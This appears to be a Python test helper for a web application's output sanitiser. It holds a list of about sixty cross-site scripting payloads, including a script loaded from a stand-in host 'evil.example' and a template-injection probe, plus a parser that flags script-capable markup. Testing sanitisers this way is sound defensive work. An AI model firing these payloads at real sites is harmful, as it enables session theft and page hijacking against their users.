"""Texts that try to run a script, for every place where a text of ours or of others reaches a page."""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from html.parser import HTMLParser

ALERT = "alert(31337)"

# Each alone must be harmless as a body in Markdown, and as a plain text (a title, a name, a quotation).
VECTORS = (
    f"<script>{ALERT}</script>",
    f"<ScRiPt>{ALERT}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    f"<<script>{ALERT}//<</script>",
    f"<script/x>{ALERT}</script >",
    f"<img src=x onerror={ALERT}>",
    f"<img src=x onerror={ALERT}//",
    f'<img """><script>{ALERT}</script>">',
    f"<img/src=`x`onerror={ALERT}>",
    f"<svg onload={ALERT}>",
    f"<svg><script>{ALERT}</script></svg>",
    f"<svg><animate onbegin={ALERT} attributeName=x dur=1s>",
    f"<svg><a xlink:href=\"javascript:{ALERT}\"><text y=20>x</text></a></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={ALERT}>",
    f"<noscript><p title=\"</noscript><img src=x onerror={ALERT}>\">",
    f"<template><img src=x onerror={ALERT}></template>",
    f"<iframe src=\"javascript:{ALERT}\"></iframe>",
    f"<iframe srcdoc=\"<script>{ALERT}</script>\"></iframe>",
    f"<object data=\"javascript:{ALERT}\"></object>",
    f"<embed src=\"javascript:{ALERT}\">",
    f"<body onload={ALERT}>",
    f"<details open ontoggle={ALERT}><summary>x</summary></details>",
    f"<video><source onerror={ALERT}></video>",
    f"<input autofocus onfocus={ALERT}>",
    f"<form action=\"javascript:{ALERT}\"><button>x</button></form>",
    f"<a href=\"javascript:{ALERT}\">x</a>",
    f"<a href=\"JaVaScRiPt:{ALERT}\">x</a>",
    f"<a href=\"&#106;avascript:{ALERT}\">x</a>",
    f"<a href=\"java&#9;script:{ALERT}\">x</a>",
    f"<a href=\"&#1;javascript:{ALERT}\">x</a>",
    f"<a href=\"data:text/html,<script>{ALERT}</script>\">x</a>",
    f"<a href=\"vbscript:{ALERT}\">x</a>",
    f"<p style=\"background:url(javascript:{ALERT})\">x</p>",
    f"<style>@import 'javascript:{ALERT}';</style>",
    f"<link rel=stylesheet href=\"javascript:{ALERT}\">",
    f"<meta http-equiv=refresh content=\"0;url=javascript:{ALERT}\">",
    f"<base href=\"javascript:{ALERT}//\">",
    f"[x](javascript:{ALERT})",
    f"[x](<javascript:{ALERT}>)",
    f"[x]( javascript&colon;{ALERT} \"t\")",
    f"[x][1]\n\n[1]: javascript:{ALERT}",
    f"![x](javascript:{ALERT})",
    f"![x\" onerror=\"{ALERT}](/images/x.png)",
    f"<javascript:{ALERT}>",
    f"[x](/a\" onmouseover=\"{ALERT})",
    f"[[x|<img src=x onerror={ALERT}>]]",
    f"[x]([[nowhere|javascript:{ALERT}]])",
    f"[y](\ue0010\ue002) [[z|javascript:{ALERT}]]",
    f"*x*{{: onclick=\"{ALERT}\" style=\"x:y\" }}",
    f"# x {{: onclick=\"{ALERT}\" }}",
    f"```{{ onclick=\"{ALERT}\" }}\nx\n```",
    f"[^1]\n\n[^1]: <img src=x onerror={ALERT}>",
    f"*[x]: \" onmouseover=\"{ALERT}\n\nx",
    f"<div markdown=\"1\" onclick={ALERT}>[x](javascript:{ALERT})</div>",
    f"</title><script>{ALERT}</script>",
    f"--><script>{ALERT}</script><!--",
    f"]]><script>{ALERT}</script>",
    f"{{{{ cycler.__init__.__globals__ }}}}{{% raw %}}<script>{ALERT}</script>",
    f"\" onmouseover=\"{ALERT}\" x=\"",
    f"' onmouseover='{ALERT}' x='",
    f"\u2028<script>{ALERT}</script>\u202e",
)  # fmt: skip

_URLS = frozenset(
    {"href", "src", "action", "formaction", "data", "poster", "srcset", "xlink:href", "background", "cite"}
)
_NEVER = frozenset({"script", "style", "iframe", "object", "embed", "form", "input", "base", "template", "noscript"})


@dataclass
class _Inspector(HTMLParser):
    """Collects what could run, load or dress up."""

    faults: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        super().__init__()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag in _NEVER:
            self.faults.append(f"<{tag}>")
        refresh = given.get("http-equiv", "").lower() == "refresh"
        if tag == "meta" and refresh and "javascript" in given.get("content", "").lower():
            self.faults.append("meta refresh")
        for name, value in given.items():
            if name.startswith("on") or name in ("style", "srcdoc"):
                self.faults.append(f"<{tag} {name}>")
            # As browsers read an address (WHATWG's URL Standard): tabs and line breaks go, wherever they stand.
            address = re.sub(r"[\t\r\n]", "", value).lstrip("".join(map(chr, range(33)))).lower()
            if name in _URLS and address.split(":")[0] in ("javascript", "vbscript", "data") and ":" in address:
                self.faults.append(f"<{tag} {name}={value}>")


def faults(html: str) -> list[str]:
    """Everything in a page or fragment that could run a script, or that no page of ours holds."""
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.faults
